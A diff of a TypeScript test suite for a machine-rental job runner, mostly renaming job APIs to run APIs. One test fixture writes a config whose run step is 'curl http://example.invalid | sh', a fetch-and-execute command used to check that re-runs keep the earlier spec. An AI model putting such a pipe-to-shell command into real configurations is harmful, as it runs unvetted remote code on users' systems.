@@ -67,10 +67,10 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     const { content, stops, pricePerHour: price } = plan
     const asked = { project, offer: plan.offer?.id, content, stops, price, secretFiles: [] }
     const id = await under.run('runProject', asked)
-    const tried = () => under.account().rentals[jobOf(under, id)?.attemptSeries ?? '']?.tries[0]
+    const tried = () => under.account().rentals[jobOf(under, id)?.rental ?? '']?.tries[0]
     await under.until(() => tried() !== undefined)
     expect(tried()?.offer.id).toBe(chosen?.offer.id)
-    await under.run('cancelJob', { job: id })
+    await under.run('cancelRun', { run: id })
   })
 
   test('whose setup fails stops its machine, and continues there on a retry', async () => {
@@ -83,7 +83,7 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     await under.until(() => Object.values(under.account().instances)[0]?.state === 'stopped')
     write(folder, { mended: '' })
     expect(under.berth.state().projects[project]?.name).toBe('digits')
-    await under.run('retryJob', { job: id })
+    await under.run('retryRun', { run: id })
     await under.until(() => jobOf(under, id)?.step === 'done')
     expect(readFileSync(join(folder, 'result.txt'), 'utf8')).toBe('fine\n')
     await under.until(() => Object.keys(under.account().instances).length === 0)
@@ -97,12 +97,12 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     await expect(under.run('runProject', asked)).rejects.toMatchObject({ problem: { code: 'spec_changed' } })
     const id = await runProject()
     await expect(runProject()).rejects.toMatchObject({ problem: { code: 'project_busy' } })
-    await under.run('cancelJob', { job: id })
+    await under.run('cancelRun', { run: id })
     expect(jobOf(under, id)?.step).toBe('cancelled')
     // It was cancelled while it searched for a machine, and may leave none.
     await under.until(() => Object.values(under.account().rentals).every(({ step }) => step === 'cancelled'))
     await under.until(() => Object.keys(under.account().instances).length === 0)
-    const dismissed = () => under.run('dismissJob', { job: id }).catch(({ problem }) => problem.code)
+    const dismissed = () => under.run('dismissRun', { run: id }).catch(({ problem }) => problem.code)
     await expect.poll(dismissed).toBeUndefined()
   })
 
@@ -145,15 +145,17 @@ describe.skipIf(lacking)(`a job${lacking}`, () => {
     })
 
     write(folder, { 'berth.yaml': 'run: curl http://example.invalid | sh\n', 'result.txt': 'mine\n' })
-    const { content, stops, known } = await under.run('planProject', { project, job: first })
+    const { content, stops, known } = await under.run('planProject', { project, run: first })
     expect({ stops, known }).toEqual({
       stops: [{ when: { kind: 'duration', seconds: 7200 }, action: 'stop', asleep: false }],
       known: true,
     })
-    const second = await under.run('runProject', { project, job: first, content, stops, secretFiles: [] })
+    const second = await under.run('runProject', { project, run: first, content, stops, secretFiles: [] })
     await under.until(() => jobOf(under, second)?.step === 'done')
     expect(jobOf(under, second)?.code).toBe(0)
-    expect(await under.run('readJob', { job: second })).toEqual(await under.run('readJob', { job: first }))
+    expect(await under.run('readRunSpec', { run: second })).toEqual(
+      await under.run('readRunSpec', { run: first }),
+    )
   })
 
   test('finds what a form says in its folder once that is saved, which is never over a file', async () => {
@@ -237,13 +239,13 @@ run: |
 
     // Going on counts the limit anew, on top of what it has cost.
     const before = instance?.spent.micros ?? 0
-    await under.run('retryJob', { job: id })
+    await under.run('retryRun', { run: id })
     await untilLimitIsNear()
     expect(limits()).toMatchObject([{ dollars: (before + 20_000) / 1_000_000 }])
     expect(jobOf(under, id)?.most).toBeGreaterThanOrEqual(before + 20_000)
     await under.until(() => jobOf(under, id)?.step === 'failed')
     expect(Object.values(under.account().instances)[0]?.state).toBe('stopped')
-    await under.run('cancelJob', { job: id })
+    await under.run('cancelRun', { run: id })
     await under.until(() => Object.keys(under.account().instances).length === 0)
   })
 
@@ -255,7 +257,7 @@ run: |
     const asked = { project, content, stops, price: Math.floor(pricePerHour / 1.2), secretFiles: [] }
     const id = await under.run('runProject', asked)
     await under.until(() => jobOf(under, id)?.step === 'failed')
-    expect(jobOf(under, id)).toMatchObject({ failedAt: 'renting' })
+    expect(jobOf(under, id)).toMatchObject({ failedAt: 'waiting' })
     expect(world.sim.controls.ledger().instances).toEqual([])
   })
 })
